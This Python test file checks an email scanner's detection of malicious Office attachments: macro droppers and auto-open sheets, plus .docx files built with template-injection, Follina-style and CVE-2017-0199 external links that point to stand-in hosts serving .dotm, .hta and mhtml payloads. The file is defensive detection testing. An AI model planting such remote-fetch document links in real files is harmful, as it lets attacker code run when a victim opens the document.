"""Macro documents end to end: each fixture of tests/fixtures/office (written by
make_office.py per MS-CFB/MS-OVBA) mailed as an attachment and scanned by a
real zerohourd on the default rules through the CLI. The droppers must come
back MALICIOUS with the macro detector's auto-run hit; the near misses
(documents without macros, a workbook whose macros only format, an installer
database) must not be MALICIOUS, and the documents must be CLEAN."""
import base64
import io
import os
import shutil
import tempfile
import unittest
import zipfile

from zhtest import Engine, message, scan_json, SRC

OFFICE = os.path.join(SRC, "tests", "fixtures", "office")

MUST_FIRE = ["invoice-autoopen.doc", "invoice-autoopen.docm", "invoice-workbook-open.xls",
             "invoice-objdata.rtf"]
# Excel 4.0 macro sheets run by Auto_Open, and documents embedding a program.
MALICIOUS = {"invoice-xlm.xls": "xlm_auto_open", "package-exe.doc": "document_embeds_program",
             "package-exe.rtf": "document_embeds_program"}
CLEAN = ["report.docx", "budget.xlsx", "letter.doc", "totals-benign-macro.xls",
         "totals-benign-macro.xlsm", "xlm-sheet-no-autorun.xls"]


class OfficeTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="zh-office-")
        cls.engine = Engine()

    @classmethod
    def tearDownClass(cls):
        cls.engine.stop()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def mail(self, name):
        with open(os.path.join(OFFICE, name), "rb") as f:
            b64 = base64.encodebytes(f.read()).decode()
        hdr = [("From", "Erin <erin@contoso-partners.example>"), ("To", "dave@corp.example.com"),
               ("Subject", "October statement"), ("Date", "Tue, 14 Nov 2023 09:30:00 +0000"),
               ("Message-ID", f"<{name}.1700000000@smtp.contoso-partners.example>")]
        path = os.path.join(self.tmp, name + ".eml")
        with open(path, "wb") as f:
            f.write(message(hdr, "Hello Dave, the statement is attached.", "b1", [(
                ["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64",
                 f'Content-Disposition: attachment; filename="{name}"'], b64)]))
        return path

    def test_droppers_and_near_misses(self):
        paths = {name: self.mail(name) for name in
                 MUST_FIRE + CLEAN + list(MALICIOUS) + ["setup.msi", "cut.doc"]}
        _, recs = scan_json(self.engine, *paths.values())
        got = {name: recs[p] for name, p in paths.items()}
        for name in MUST_FIRE:
            rules = [h["rule"] for h in got[name]["hits"]]
            self.assertEqual(got[name]["verdict"], "MALICIOUS", f"{name}: {got[name]}")
            self.assertIn("macro_autorun_risky", rules, name)
        for name, rule in MALICIOUS.items():
            self.assertEqual(got[name]["verdict"], "MALICIOUS", f"{name}: {got[name]}")
            self.assertIn(rule, [h["rule"] for h in got[name]["hits"]], name)
        for name in CLEAN:
            self.assertEqual(got[name]["verdict"], "CLEAN", f"{name}: {got[name]}")
        self.assertNotEqual(got["setup.msi"]["verdict"], "MALICIOUS", got["setup.msi"])
        self.assertFalse([h for h in got["setup.msi"]["hits"] if h["detector"] == "macro"])
        # A compound file cut short is never CLEAN: its damage is an unscannable hit.
        self.assertNotEqual(got["cut.doc"]["verdict"], "CLEAN", got["cut.doc"])
        self.assertTrue([h for h in got["cut.doc"]["hits"] if h["rule"] == "malformed_ole"],
                        got["cut.doc"])


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(settings_rels=None, document_rels=None):
    """A minimal .docx whose settings or document part links elsewhere, as
    Word writes a document created from a template or holding a linked
    object (ECMA-376 Part 2: Relationships)."""
    def rels(body):
        return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{body}</Relationships>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Default Extension="xml" '
                   'ContentType="application/xml"/></Types>')
        z.writestr("_rels/.rels", rels(f'<Relationship Id="rId1" Type="{REL}/officeDocument" '
                                       'Target="word/document.xml"/>'))
        z.writestr("word/document.xml",
                   '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                   'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quarterly report'
                   '</w:t></w:r></w:p></w:body></w:document>')
        z.writestr("word/_rels/document.xml.rels", rels(
            f'<Relationship Id="rId1" Type="{REL}/settings" Target="settings.xml"/>' +
            (document_rels or "")))
        z.writestr("word/settings.xml", '<?xml version="1.0"?><w:settings xmlns:w="http://'
                   'schemas.openxmlformats.org/wordprocessingml/2006/main"/>')
        if settings_rels:
            z.writestr("word/_rels/settings.xml.rels", rels(settings_rels))
    return buf.getvalue()


def template(target):
    return (f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{target}" '
            'TargetMode="External"/>')


def ole_link(target):
    return (f'<Relationship Id="rId9" Type="{REL}/oleObject" Target="{target}" '
            'TargetMode="External"/>')


class RemoteLinkTest(unittest.TestCase):
    """Documents that fetch their active part when opened (template injection,
    CVE-2017-0199, Follina) against documents made from a company template or
    holding a linked spreadsheet (rules/office_external.yar)."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="zh-office-links-")
        cls.engine = Engine()

    @classmethod
    def tearDownClass(cls):
        cls.engine.stop()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def verdicts(self, cases):
        paths = {}
        for name, data in cases.items():
            hdr = [("From", "Erin <erin@contoso-partners.example>"),
                   ("To", "dave@corp.example.com"), ("Subject", "the report"),
                   ("Date", "Tue, 14 Nov 2023 09:30:00 +0000"),
                   ("Message-ID", f"<{name}.1700000001@smtp.contoso-partners.example>")]
            path = os.path.join(self.tmp, name + ".eml")
            with open(path, "wb") as f:
                f.write(message(hdr, "Hello Dave, the report is attached.", "b1", [(
                    ["Content-Type: application/octet-stream", "Content-Transfer-Encoding: base64",
                     f'Content-Disposition: attachment; filename="{name}.docx"'],
                    base64.encodebytes(data).decode())]))
            paths[name] = path
        _, recs = scan_json(self.engine, *paths.values())
        return {name: recs[p] for name, p in paths.items()}

    def test_remote_links(self):
        got = self.verdicts({
            "ip-template": docx(template("http://203.0.113.7/tpl/letter.dotm")),
            "hta-template": docx(template("https://cdn.example.net/files/update.hta")),
            "mhtml-template": docx(template("mhtml:https://cdn.example.net/a.html!x-usc:x")),
            "follina": docx(document_rels=ole_link("mhtml:http://198.51.100.4/i.html!x-usc:"
                                                   "http://198.51.100.4/i.html")),
            "cve-2017-0199": docx(document_rels=ole_link("http://malicious.example/doc.rtf")),
            "web-template": docx(template("https://templates.example.org/Letter.dotx")),
            "company-share-template": docx(template("file:///\\\\fs01\\Templates\\Letter.dotx")),
            "local-template": docx(template("file:///C:\\Users\\dave\\Normal.dotm")),
            "linked-spreadsheet": docx(document_rels=ole_link(
                "file:///\\\\fs01\\Finance\\Q3.xlsx")),
            "plain": docx(),
        })
        for name in ("ip-template", "hta-template", "mhtml-template", "follina", "cve-2017-0199"):
            self.assertEqual(got[name]["verdict"], "MALICIOUS", f"{name}: {got[name]}")
        # A template on the web is unusual but not proof: flagged, not rejected.
        self.assertEqual(got["web-template"]["verdict"], "SUSPICIOUS", got["web-template"])
        for name in ("company-share-template", "local-template", "linked-spreadsheet", "plain"):
            self.assertEqual(got[name]["verdict"], "CLEAN", f"{name}: {got[name]}")


if __name__ == "__main__":
    unittest.main(verbosity=2)
